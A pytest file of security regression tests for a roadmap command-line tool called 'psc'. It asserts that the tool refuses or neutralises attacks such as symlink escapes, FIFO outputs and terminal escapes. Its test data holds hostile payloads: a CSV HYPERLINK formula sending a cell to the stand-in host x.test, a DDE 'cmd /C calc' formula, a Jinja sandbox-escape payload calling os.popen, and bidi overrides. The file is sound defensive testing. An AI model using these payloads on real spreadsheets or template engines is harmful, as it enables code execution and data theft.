"""What a hostile pull request can commit cannot make psc write, read or print outside what
the user named: each test reproduces one attack on a temporary project and asserts the
outcome (exit code, message) and that nothing outside changed."""

from __future__ import annotations

import os
import shutil
import stat
from pathlib import Path

import pytest

from tests.conftest import MakeProject, run_psc

REPO = Path(__file__).resolve().parent.parent


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A file outside the project, as a CI's site-packages or a secret would be."""
    secret = tmp_path / "outside" / "zz.pth"
    secret.parent.mkdir()
    secret.write_text("root:x:0:0:secret token\n", encoding="utf-8")
    return secret


def snapshot(path: Path) -> tuple[bytes, int]:
    return path.read_bytes(), path.stat().st_mtime_ns


# --- writes ------------------------------------------------------------------------------


def test_output_link_out_of_its_folder_is_refused(make_project: MakeProject, tmp_path: Path, outside: Path) -> None:
    folder = make_project()
    docs = tmp_path / "docs"
    docs.mkdir()
    link = docs / "annexe.md"
    link.symlink_to(outside)
    before = snapshot(outside)
    code, out, err = run_psc("render", "-d", str(folder), "-o", str(link))
    assert code == 1
    assert f"won't write {link}: it is a symbolic link to '{outside}', outside its folder" in err
    assert snapshot(outside) == before and link.is_symlink()
    assert out == ""


def test_output_link_inside_its_folder_is_followed(make_project: MakeProject, tmp_path: Path) -> None:
    folder = make_project()
    docs = tmp_path / "docs"
    (docs / "v2").mkdir(parents=True)
    link = docs / "annexe.md"
    link.symlink_to(Path("v2") / "annexe.md")
    code, _, err = run_psc("render", "-d", str(folder), "-o", str(link))
    assert code == 0, err
    assert link.is_symlink() and (docs / "v2" / "annexe.md").read_text(encoding="utf-8").startswith("# ")


def test_schema_output_link_is_refused_too(tmp_path: Path, outside: Path) -> None:
    (tmp_path / "schemas").mkdir()
    link = tmp_path / "schemas" / "axes.schema.json"
    link.symlink_to(outside)
    before = snapshot(outside)
    code, _, err = run_psc("schema", "axes", "-o", str(link))
    assert code == 1 and "symbolic link" in err
    assert snapshot(outside) == before


def test_output_fifo_is_refused_without_waiting(make_project: MakeProject, tmp_path: Path) -> None:
    folder = make_project()
    fifo = tmp_path / "pipe.md"
    os.mkfifo(fifo)
    code, _, err = run_psc("render", "-d", str(folder), "-o", str(fifo))
    assert code == 1
    assert f"won't write {fifo}: it is a named pipe (FIFO), not a regular file" in err
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)


@pytest.mark.skipif(not os.path.exists("/dev/null"), reason="no /dev/null")
def test_output_device_is_refused(make_project: MakeProject) -> None:
    folder = make_project()
    code, _, err = run_psc("render", "-d", str(folder), "-o", "/dev/null")
    assert code == 1
    assert "won't write /dev/null: it is a character device, not a regular file; for standard output, write -o -" in err
    assert stat.S_ISCHR(os.lstat("/dev/null").st_mode)


def test_output_dev_stdout_says_to_write_dash(make_project: MakeProject) -> None:
    folder = make_project()
    code, _, err = run_psc("render", "-d", str(folder), "-o", "/dev/stdout")
    assert code == 1
    assert "for standard output, write -o -" in err


def test_output_dash_is_stdout(make_project: MakeProject) -> None:
    folder = make_project()
    code, out, _ = run_psc("render", "-d", str(folder), "-o", "-", "--format", "html")
    assert code == 0 and out.startswith("<!DOCTYPE html>")
    assert not Path("-").exists()


def test_output_onto_a_data_file_is_refused(make_project: MakeProject) -> None:
    folder = make_project()
    roadmap = folder / "si_roadmap.yaml"
    before = snapshot(roadmap)
    code, _, err = run_psc("render", "-d", str(folder), "-o", str(roadmap), "--format", "md")
    assert code == 1
    assert f"it is the project's data file {roadmap}" in err
    assert snapshot(roadmap) == before


def test_output_hard_link_to_a_data_file_is_refused(make_project: MakeProject, tmp_path: Path) -> None:
    folder = make_project()
    roadmap = folder / "si_roadmap.yaml"
    alias = tmp_path / "annexe.md"
    os.link(roadmap, alias)
    before = snapshot(roadmap)
    code, _, err = run_psc("render", "-d", str(folder), "-o", str(alias))
    assert code == 1 and "hard link" in err
    assert snapshot(roadmap) == before


def test_output_suffix_psc_does_not_know_is_a_usage_error(make_project: MakeProject, tmp_path: Path) -> None:
    folder = make_project()
    target = tmp_path / "annexe.yaml"
    code, _, err = run_psc("render", "-d", str(folder), "-o", str(target))
    assert code == 2
    assert "can't tell the format from '.yaml'" in err and "--format" in err
    assert not target.exists()


def test_read_only_output_is_refused(make_project: MakeProject, tmp_path: Path) -> None:
    folder = make_project()
    target = tmp_path / "annexe.md"
    target.write_text("old\n", encoding="utf-8")
    target.chmod(0o444)
    code, _, err = run_psc("render", "-d", str(folder), "-o", str(target))
    assert code == 1
    assert "the file is read-only (mode 0444)" in err
    assert target.read_text(encoding="utf-8") == "old\n"


def test_set_refuses_a_read_only_data_file(make_project: MakeProject) -> None:
    folder = make_project()
    roadmap = folder / "si_roadmap.yaml"
    roadmap.chmod(0o444)
    before = snapshot(roadmap)
    code, _, err = run_psc("set", "-d", str(folder), "SI-01", "status", "done")
    assert code == 1
    assert "the file is read-only" in err
    assert snapshot(roadmap) == before


def test_set_says_so_when_a_data_file_has_other_hard_links(make_project: MakeProject, tmp_path: Path) -> None:
    folder = make_project()
    roadmap = folder / "si_roadmap.yaml"
    os.link(roadmap, tmp_path / "copy.yaml")
    before = snapshot(roadmap)
    code, _, err = run_psc("set", "-d", str(folder), "SI-01", "status", "done")
    assert code == 1
    assert "1 other hard link(s)" in err
    assert snapshot(roadmap) == before


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a file to another user")
def test_rewriting_as_root_keeps_the_owner(make_project: MakeProject) -> None:
    folder = make_project()
    roadmap = folder / "si_roadmap.yaml"
    os.chown(roadmap, 65534, 65534)
    code, _, err = run_psc("set", "-d", str(folder), "SI-01", "status", "done")
    assert code == 0, err
    assert (roadmap.stat().st_uid, roadmap.stat().st_gid) == (65534, 65534)


# --- reads -------------------------------------------------------------------------------


def test_data_file_linked_outside_is_not_read(make_project: MakeProject, outside: Path) -> None:
    folder = make_project()
    (folder / "axes.yaml").unlink()
    (folder / "axes.yaml").symlink_to(outside)
    code, out, _ = run_psc("validate", "-d", str(folder))
    assert code == 1
    assert (f"{folder}/axes.yaml:1:1: error file-error: symbolic link to '{outside}', outside the "
            "project folder: psc does not read it; put the file itself in the folder") in out
    assert "secret" not in out and "root:x" not in out


def test_a_long_value_is_never_quoted_whole(make_project: MakeProject) -> None:
    token = "ghp_" + "x" * 500
    folder = make_project({"governance.yaml": token + "\n"})
    code, out, _ = run_psc("validate", "-d", str(folder))
    assert code == 1
    assert token not in out
    assert all(len(line) < 400 for line in out.splitlines())


def test_check_of_a_link_to_dev_zero_is_refused_at_once(make_project: MakeProject, tmp_path: Path) -> None:
    folder = make_project()
    link = tmp_path / "annexe.md"
    link.symlink_to("/dev/zero")
    code, out, err = run_psc("render", "-d", str(folder), "--check", "-o", str(link))
    assert code == 1 and "symbolic link" in err
    assert out == ""


def test_check_of_a_link_to_a_secret_does_not_print_it(make_project: MakeProject, tmp_path: Path,
                                                        outside: Path) -> None:
    folder = make_project()
    (tmp_path / "docs").mkdir()
    link = tmp_path / "docs" / "annexe.md"
    link.symlink_to(outside)
    code, out, err = run_psc("render", "-d", str(folder), "--check", "-o", str(link))
    assert code == 1
    assert "secret" not in out + err


def test_check_of_a_fifo_does_not_hang(make_project: MakeProject, tmp_path: Path) -> None:
    folder = make_project()
    fifo = tmp_path / "annexe.md"
    os.mkfifo(fifo)
    code, _, err = run_psc("render", "-d", str(folder), "--check", "-o", str(fifo))
    assert code == 1 and "named pipe" in err


def test_check_diff_escapes_terminal_codes_and_bounds_lines(make_project: MakeProject, tmp_path: Path) -> None:
    folder = make_project()
    target = tmp_path / "annexe.md"
    target.write_text("\x1b]0;owned\x07\x1b[2J" + "y" * 5000 + "\n", encoding="utf-8")
    code, out, _ = run_psc("render", "-d", str(folder), "--check", "-o", str(target))
    assert code == 1
    assert "\x1b" not in out and "\\x1b" in out
    assert max(len(line) for line in out.splitlines()) <= 200


def test_the_bundled_example_still_renders_through_a_copied_project(tmp_path: Path) -> None:
    folder = tmp_path / "data"
    shutil.copytree(REPO / "data", folder)
    code, _, err = run_psc("render", "-d", str(folder), "-o", str(tmp_path / "annexe.html"))
    assert code == 0, err


# --- one parser ---------------------------------------------------------------------------


def test_validate_set_and_fmt_read_a_tab_after_a_key_alike(make_project: MakeProject) -> None:
    from tests.conftest import ROADMAP

    folder = make_project({"si_roadmap.yaml": ROADMAP.replace("    owner: DSI\n", "    owner:\tDSI\n")})
    assert run_psc("validate", "-d", str(folder))[0] == 0
    code, _, err = run_psc("set", "-d", str(folder), "SI-01", "status", "done")
    assert code == 0, err
    assert "owner:\tDSI" in (folder / "si_roadmap.yaml").read_text(encoding="utf-8")  # every other byte kept
    code, _, err = run_psc("fmt", "-d", str(folder))
    assert code == 0, err
    assert "    owner: DSI\n" in (folder / "si_roadmap.yaml").read_text(encoding="utf-8")


# --- CSV ------------------------------------------------------------------------------------


def test_csv_neutralises_formulas(make_project: MakeProject) -> None:
    import csv
    import io

    from tests.conftest import ROADMAP

    hostile = ROADMAP.replace("    owner: DSI\n", """    owner: '=HYPERLINK("http://x.test/?"&A1,"clic")'
    description: "\\t=1+1"
    tags: ["-2+3", "@SUM(A1:A9)"]
""").replace("title: Base collections", "title: \"+cmd|' /C calc'!A0\"")
    folder = make_project({"si_roadmap.yaml": hostile})
    code, out, err = run_psc("query", "-d", str(folder), "--format", "csv", "--roadmap", "si")
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    first = rows[0]
    assert first["owner"] == """'=HYPERLINK("http://x.test/?"&A1,"clic")"""
    assert first["title"] == "'+cmd|' /C calc'!A0"
    assert first["description"] == "'=1+1"
    assert first["tags"] == "'-2+3;@SUM(A1:A9)"
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())

    code, raw, _ = run_psc("query", "-d", str(folder), "--format", "csv", "--roadmap", "si", "--raw-csv")
    assert code == 0
    assert next(iter(csv.DictReader(io.StringIO(raw, newline=""))))["owner"].startswith("=HYPERLINK(")


# --- edits ----------------------------------------------------------------------------------


@pytest.mark.parametrize(("field", "value", "message"), [
    ("owner", "a\x1b[2Jb", "owner: control character U+001B in the value"),
    ("owner", "a\x85b", "owner: control character U+0085 in the value"),
    ("axes", "AX1,AX1", "axes: 'AX1' is given twice; give each id once"),
    ("owner", "caf\udce9", "owner: the value is not UTF-8 text"),
])
def test_set_refuses_a_value_the_data_cannot_hold(make_project: MakeProject, field: str, value: str,
                                                   message: str) -> None:
    folder = make_project()
    roadmap = folder / "si_roadmap.yaml"
    before = snapshot(roadmap)
    code, _, err = run_psc("set", "-d", str(folder), "SI-01", field, value)
    assert code == 1
    assert message in err
    assert "alias" not in err
    assert snapshot(roadmap) == before


def test_add_keeps_a_comma_inside_one_tag(make_project: MakeProject) -> None:
    folder = make_project()
    code, _, err = run_psc("add", "-d", str(folder), "--title", "T", "--axis", "AX1", "--start", "2020",
                             "--end", "2020", "--owner", "DSI", "--tag", "a,b", "--tag", "c")
    assert code == 0, err
    assert '    tags: ["a,b", c]\n' in (folder / "si_roadmap.yaml").read_text(encoding="utf-8")


def test_duplicate_reference_is_one_warning_at_the_second_member(make_project: MakeProject) -> None:
    from tests.conftest import ROADMAP

    folder = make_project({"si_roadmap.yaml": ROADMAP.replace("depends_on: [SI-01]", "depends_on: [SI-01, SI-01]")})
    code, out, _ = run_psc("validate", "-d", str(folder))
    assert code == 0
    assert out.splitlines()[:-1] == [
        f"{folder}/si_roadmap.yaml:25:25: warning duplicate-reference: action 'SI-01' is listed twice in "
        "'depends_on' of 'SI-02'; remove this one",
    ]


# --- text that could turn a document around -------------------------------------------------


@pytest.mark.parametrize(("title", "finding"), [
    ("Portail \u202eelbisiv", True),          # an override left open: it reverses what follows
    ("\u2067عربي\u2069 et français", False),  # a balanced isolate: allowed
    ("a \u202c b", True),                     # a close without an open
    ("\u202b\u2066x\u202c\u2069", True),      # badly nested
])
def test_bidi_controls_must_be_balanced_in_one_value(make_project: MakeProject, title: str, finding: bool) -> None:
    from tests.conftest import ROADMAP

    folder = make_project({"si_roadmap.yaml": ROADMAP.replace("title: Base collections", f'title: "{title}"')})
    code, out, _ = run_psc("validate", "-d", str(folder))
    bidi = [line for line in out.splitlines() if "bidirectional control" in line]
    assert bool(bidi) is finding
    if finding:
        assert code == 1
        assert f"{folder}/si_roadmap.yaml:11:12: error schema: unbalanced bidirectional control" in bidi[0]
        assert len(bidi) == 1


# --- bounded work ---------------------------------------------------------------------------


def test_a_long_loop_is_one_short_finding(make_project: MakeProject) -> None:
    actions = "".join(
        f"  - {{id: L-{i}, title: T{i}, axes: [AX1, AX2], principles: [P1], start: 2019, end: 2019, owner: X, "
        f"depends_on: [L-{(i + 1) % 2000}]}}\n"
        for i in range(2000)
    )
    roadmap = "roadmap:\n  id: si\n  title: SI\n  horizon: 2021\nactions:\n" + actions
    folder = make_project({"si_roadmap.yaml": roadmap, "governance.yaml": None})
    code, out, _ = run_psc("validate", "-d", str(folder))
    assert code == 1
    cycles = [line for line in out.splitlines() if "dependency-cycle" in line]
    assert len(cycles) == 1
    assert "… (1991 more) depends on 'L-0'" in cycles[0]
    assert len(cycles[0]) < 500


def test_many_unknown_references_take_linear_time(make_project: MakeProject) -> None:
    """5,000 unknown depends_on against 5,000 action ids: suggestions compare each word with a
    bounded number of neighbours, so this is a second or two, not minutes."""
    import time

    actions = "".join(
        f"  - {{id: A-{i:04d}, title: T, axes: [AX1, AX2], principles: [P1], start: 2019, end: 2019, "
        f"owner: X, depends_on: [B-{i:04d}]}}\n"
        for i in range(5000)
    )
    roadmap = "roadmap:\n  id: si\n  title: SI\n  horizon: 2021\nactions:\n" + actions
    folder = make_project({"si_roadmap.yaml": roadmap, "governance.yaml": None})
    began = time.perf_counter()
    code, out, _ = run_psc("validate", "-d", str(folder))
    elapsed = time.perf_counter() - began
    assert code == 1
    assert out.count("unknown-reference") == 5000
    assert "action 'B-0042' does not exist (did you mean 'A-0042'?)" in out
    assert elapsed < 60  # a guard against quadratic time (minutes), not a speed measurement


def test_dumb_terminal_gets_no_colour(monkeypatch: pytest.MonkeyPatch) -> None:
    import io

    from psc_roadmap.reporters import use_colour

    class Tty(io.StringIO):
        def isatty(self) -> bool:
            return True

    monkeypatch.delenv("NO_COLOR", raising=False)
    monkeypatch.setenv("TERM", "xterm-256color")
    assert use_colour(Tty())
    monkeypatch.setenv("TERM", "dumb")
    assert not use_colour(Tty())


# --- templates are code: sandboxed and bounded ------------------------------------------------


def _override(tmp_path: Path, name: str, text: str) -> Path:
    folder = tmp_path / "templates"
    (folder / name).parent.mkdir(parents=True, exist_ok=True)
    (folder / name).write_text(text, encoding="utf-8")
    return folder


def test_a_template_cannot_reach_python(make_project: MakeProject, tmp_path: Path) -> None:
    folder = make_project()
    marker = tmp_path / "ran"
    templates = _override(tmp_path, "md/cover.md.j2",
                          "{{ cycler.__init__.__globals__.os.popen('touch " + str(marker) + "').read() }}\n")
    code, out, err = run_psc("render", "-d", str(folder), "--templates", str(templates))
    assert code == 1
    assert "md/cover.md.j2" in err and "unsafe" in err
    assert not marker.exists() and out == ""


def test_a_template_linked_outside_its_folder_is_not_read(make_project: MakeProject, tmp_path: Path,
                                                           outside: Path) -> None:
    folder = make_project()
    templates = tmp_path / "templates" / "md"
    templates.mkdir(parents=True)
    (templates / "cover.md.j2").symlink_to(outside)
    code, out, err = run_psc("render", "-d", str(folder), "--templates", str(templates.parent))
    assert code == 1
    assert f"template md/cover.md.j2: symbolic link to '{outside}', outside the templates folder" in err
    assert "secret" not in out + err


@pytest.mark.parametrize("text", [
    "{% for i in range(10**9) %}x{% endfor %}",
    "{{ 'x' * 10**9 }}",
    "{{ 'x' * 1000000000 }}",
    "{{ 2 ** 100000000 }}",
])
def test_a_template_cannot_build_something_huge(make_project: MakeProject, tmp_path: Path, text: str) -> None:
    folder = make_project()
    templates = _override(tmp_path, "md/cover.md.j2", text + "\n")
    cache = tmp_path / "cache"
    import os as _os

    env_before = _os.environ.get("XDG_CACHE_HOME")
    _os.environ["XDG_CACHE_HOME"] = str(cache)
    try:
        from psc_roadmap.render.environment import environment

        environment.cache_clear()
        code, _, err = run_psc("render", "-d", str(folder), "--templates", str(templates))
    finally:
        if env_before is None:
            _os.environ.pop("XDG_CACHE_HOME")
        else:
            _os.environ["XDG_CACHE_HOME"] = env_before
        environment.cache_clear()
    assert code == 1, err
    assert "md/cover.md.j2" in err
    assert sum(p.stat().st_size for p in cache.rglob("*") if p.is_file()) < 4 * 1024 * 1024


def test_rendering_stops_past_its_time_budget(make_project: MakeProject, tmp_path: Path,
                                              monkeypatch: pytest.MonkeyPatch) -> None:
    from psc_roadmap.render import document

    monkeypatch.setattr(document, "SECONDS", 1.0)
    folder = make_project()
    templates = _override(tmp_path, "md/cover.md.j2",
                          "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}\n")
    code, _, err = run_psc("render", "-d", str(folder), "--templates", str(templates))
    assert code == 1
    assert "the templates took more than 1 s: stopped" in err


def test_rendering_stops_past_its_output_size(make_project: MakeProject, tmp_path: Path,
                                              monkeypatch: pytest.MonkeyPatch) -> None:
    from psc_roadmap.render import document

    monkeypatch.setattr(document, "OUTPUT", 10_000)
    folder = make_project()
    templates = _override(tmp_path, "md/cover.md.j2", "{% for i in range(90000) %}word {% endfor %}\n")
    code, _, err = run_psc("render", "-d", str(folder), "--templates", str(templates))
    assert code == 1
    assert "the templates write more than" in err


def test_the_bytecode_cache_is_private_and_refuses_another_users_folder(tmp_path: Path,
                                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    from psc_roadmap.render.cache import bytecode_cache

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    cache = bytecode_cache("sandbox")
    assert cache is not None
    folder = Path(cache.directory)
    assert stat.S_IMODE(folder.stat().st_mode) & 0o077 == 0
    folder.chmod(0o777)  # anyone could plant compiled code there: not used
    assert bytecode_cache("sandbox") is None
    folder.chmod(0o700)
    if os.geteuid() == 0:
        os.chown(folder, 65534, 65534)  # another user's folder: not used
        assert bytecode_cache("sandbox") is None


def test_an_override_folder_runs_every_template_in_the_sandbox(tmp_path: Path,
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    """The built-in templates alone are the package's code; once a folder of the user's is in
    the search path, every template (the built-in ones it includes too) runs sandboxed, and
    is compiled into a cache folder of its own: the sandbox compiles `*` to a checked call."""
    from jinja2.sandbox import SandboxedEnvironment

    from psc_roadmap.render.environment import environment

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    environment.cache_clear()
    try:
        trusted, sandboxed = environment(None), environment(str(_override(tmp_path, "md/x.md.j2", "x")))
        assert not isinstance(trusted, SandboxedEnvironment)
        assert isinstance(sandboxed, SandboxedEnvironment)
        assert trusted.bytecode_cache is not None and sandboxed.bytecode_cache is not None
        assert trusted.bytecode_cache.directory != sandboxed.bytecode_cache.directory  # type: ignore[attr-defined]
        # A built-in template, reached through the override's environment, is sandboxed too.
        assert sandboxed.get_template("md/cover.md.j2").environment is sandboxed
    finally:
        environment.cache_clear()


def test_the_right_to_left_blocks_hold_every_right_to_left_character() -> None:
    """directional() looks only at the characters of MAYBE_RIGHT_TO_LEFT: it must hold every
    character whose bidi class reorders text, in the Unicode of this Python."""
    import sys
    import unicodedata

    from psc_roadmap.text import MAYBE_RIGHT_TO_LEFT, directional

    reordering = {"R", "AL", "RLE", "RLO", "LRE", "LRO", "PDF", "RLI", "LRI", "FSI", "PDI"}
    missing = [hex(c) for c in range(sys.maxunicode + 1)
               if unicodedata.bidirectional(chr(c)) in reordering and not MAYBE_RIGHT_TO_LEFT.match(chr(c))]
    assert missing == []
    assert directional("Musée « ʿAyn » שלום") and directional("a\u202eb")
    assert not directional("Musée du Louvre – « Collections » 🎨")
    assert not directional("\u05b0")  # a Hebrew point, not a letter: it reorders nothing


def test_cache_entries_are_written_private(make_project: MakeProject, tmp_path: Path,
                                           monkeypatch: pytest.MonkeyPatch) -> None:
    from psc_roadmap.render.environment import environment

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    environment.cache_clear()
    try:
        folder = make_project()
        assert run_psc("render", "-d", str(folder))[0] == 0
    finally:
        environment.cache_clear()
    entries = list((tmp_path / "cache").rglob("*.cache"))
    assert entries
    assert all(stat.S_IMODE(e.stat().st_mode) == 0o600 for e in entries)


def test_right_to_left_text_is_isolated_in_html(make_project: MakeProject) -> None:
    from tests.conftest import ROADMAP

    folder = make_project({"si_roadmap.yaml": ROADMAP.replace("title: Base collections", "title: قاعدة المجموعات")})
    code, out, _ = run_psc("render", "-d", str(folder), "--format", "html")
    assert code == 0
    assert "<bdi>قاعدة المجموعات</bdi>" in out


def test_every_view_is_a_slotted_dataclass_without_methods() -> None:
    import dataclasses
    import inspect

    from psc_roadmap.render import views

    classes = {c for _, c in inspect.getmembers(views, inspect.isclass) if c.__module__ == views.__name__}
    assert classes == set(views.VIEW_TYPES)
    for cls in classes:
        assert dataclasses.is_dataclass(cls) and hasattr(cls, "__slots__")
        own = [name for name, value in vars(cls).items() if callable(value) and not name.startswith("_")]
        assert own == [], cls


def test_a_4000_digit_number_in_a_text_field_is_its_text(make_project: MakeProject) -> None:
    from tests.conftest import AXES

    number = "0x" + "f" * 4000
    folder = make_project({"axes.yaml": AXES.replace("institution: Musée test", f"institution: {number}")})
    code, out, _ = run_psc("validate", "-d", str(folder))
    assert code == 0, out
    assert "set_int_max_str_digits" not in out


@pytest.mark.parametrize("key", ["~", "? [a, b]", "!!binary aGk="])
def test_fmt_never_asks_to_report_a_valid_odd_key(make_project: MakeProject, key: str) -> None:
    folder = make_project({"governance.yaml": f"{key}: v\nbodies: []\n"})
    code, _, err = run_psc("fmt", "-d", str(folder))
    assert "please report" not in err and "Traceback" not in err
    if code:
        assert "nothing was written" in err
